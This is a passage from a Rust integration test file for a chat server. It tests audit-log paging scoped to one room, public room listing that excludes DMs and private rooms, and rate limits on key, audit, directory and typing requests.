    let last = owner.create_room("last", false).await;
    for slow in [1, 2, 3] {
        let configure = RoomConfigure {
            room: first,
            slow_mode_s: Some(slow),
            locked: None,
            anonymous: None,
            stage: None,
        };
        owner.conn.request_one(configure).await.unwrap();
    }
    owner
        .conn
        .request_one(RoomConfigure {
            room: other,
            slow_mode_s: Some(9),
            locked: None,
            anonymous: None,
            stage: None,
        })
        .await
        .unwrap();

    // A room's audit log, newest first, in pages; nothing of another room.
    let page = |before| AuditQuery { room: Some(first), before, limit: 2 };
    let Ok(Message::AuditPage(newest)) = owner.conn.request_one(page(None)).await else { panic!() };
    assert_eq!(newest.entries.len(), 2);
    assert!(newest.more);
    let before = newest.entries.iter().map(|e| e.id).min();
    let Ok(Message::AuditPage(oldest)) = owner.conn.request_one(page(before)).await else {
        panic!()
    };
    assert_eq!(oldest.entries.len(), 1);
    assert!(!oldest.more);
    let all: Vec<_> = newest.entries.iter().chain(oldest.entries.iter()).collect();
    assert!(all.iter().all(|e| e.room == Some(first)), "{all:?}");
    assert!(all.windows(2).all(|w| w[0].id > w[1].id), "newest first");

    // Public listing: channels only (no DM, no private room), paged by id.
    let list = |after| RoomList { scope: ListScope::Public, after, limit: 2 };
    let Ok(Message::RoomListPage(one)) = owner.conn.request_one(list(None)).await else { panic!() };
    let ids: Vec<_> = one.rooms.iter().map(|r| r.room).collect();
    assert_eq!((ids.clone(), one.more), (vec![first, other], true));
    let Ok(Message::RoomListPage(two)) = owner.conn.request_one(list(ids.last().copied())).await
    else {
        panic!()
    };
    let ids: Vec<_> = two.rooms.iter().map(|r| r.room).collect();
    assert_eq!((ids, two.more), (vec![last], false));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_key_audit_directory_and_typing_requests_are_rate_limited() {
    use banter_client::protocol::message::{AuditQuery, KeyRemove, ListScope, RoomList};
    use banter_server::config::Bucket;

    let server = TestServer::start_with(|config| {
        for class in ["keys", "audit", "directory", "typing"] {
            config.rate.insert(class.into(), Bucket { burst: 2, per_minute: 1 });
        }
    })
    .await;
    let root = server.user("root").await; // the server's owner: may read the whole audit log
    let room = root.create_room("general", false).await;
    let requests: [Message; 4] = [
        KeyRemove { public_key: [9; 32] }.into(),
        AuditQuery { room: None, before: None, limit: 1 }.into(),
        RoomList { scope: ListScope::Public, after: None, limit: 1 }.into(),
        TypingSet { room, state: TypingState::Active }.into(),
    ];
    for request in requests {
        for _ in 0..2 {
            let answer = root.conn.request_one(request.clone()).await;
            assert_ne!(answer.err().and_then(|e| e.code()), Some(ErrorCode::RATE_LIMITED));
        }
        let third = root.conn.request_one(request.clone()).await;
        assert_eq!(code_of(third), ErrorCode::RATE_LIMITED, "{request:?}");
    }
}
